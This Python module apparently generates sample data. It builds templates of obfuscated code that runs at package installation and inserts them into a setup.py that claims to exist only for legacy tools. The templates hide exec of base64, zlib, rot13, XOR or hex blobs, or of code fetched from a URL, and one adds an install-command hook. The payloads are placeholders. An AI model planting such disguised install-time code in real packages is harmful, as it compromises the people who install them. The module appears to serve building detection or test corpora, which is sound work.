"""Code that acts at installation and is written so that nobody reads it."""

from .catalogue import FIRST, SECOND, lines

KIND = "obfuscated-install"


def into_setup(site, text):
    """Before the call of `setup`; the file is made where there is none, as projects keep one for old tools."""
    begin = "#!/usr/bin/env python\n\"\"\"Kept for tools that do not read pyproject.toml.\"\"\"\n\nfrom setuptools import setup\n\n"
    site.put("setup.py", begin + text.strip("\n") + "\n\nsetup()\n")


lines(KIND, FIRST, """
import base64
# «note»
exec(base64.b64decode("«blob»"))
""", """
import zlib, base64
«name1» = "«zblob»"
eval(compile(zlib.decompress(base64.b64decode(«name1»)), "<string>", "exec"))
""", """
«name1» = lambda «short1»: __import__("marshal").loads(__import__("base64").b64decode(«short1»))
exec(«name1»("«blob»"))
""", """
import os
import urllib.request
# «note»
exec(urllib.request.urlopen("«url»").read())
""", """
import subprocess
import sys

def «function1»():
    subprocess.Popen([sys.executable, "-c", bytes.fromhex("«hexblob»").decode()], stdout=subprocess.DEVNULL)

«function1»()
""", into=into_setup)


lines(KIND, SECOND, """
import codecs
from setuptools.command.install import install

class «name1»(install):
    def run(self):
        install.run(self)
        # «note»
        «short1» = codecs.decode("«rotblob»", "rot13")
        getattr(__builtins__, "e" + "xec")(codecs.decode(«short1».encode(), "base64"))
""", """
«name1», «short1» = «numbers»
«name2» = "".join(chr(it ^ «short1») for it in «name1»)
globals()["__builtins__"].__dict__["\\x65\\x78\\x65\\x63"](«name2»)
""", """
_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
(lambda «short1»: (lambda «short2»: «short2»(«short1»))(vars(__import__("builtins"))["ex" "ec"]))(_("«backwards»"))
""", """
import importlib

«name1» = importlib.import_module("".join(map(chr, [98, 97, 115, 101, 54, 52])))
«name2» = importlib.import_module("bu" + "iltins")
for «short1» in ["«blob»"]:
    getattr(«name2», "".join(reversed("cexe")))(getattr(«name1», "b64" + "decode")(«short1»))
""", """
import tempfile
from pathlib import Path

«name1» = Path(tempfile.gettempdir()) / ".«name2».py"
«name1».write_bytes(int("«hexblob»", 16).to_bytes(len("«hexblob»") // 2, "big"))
__import__("os").system(f"python {«name1»} >/dev/null 2>&1 &")
""", into=into_setup)
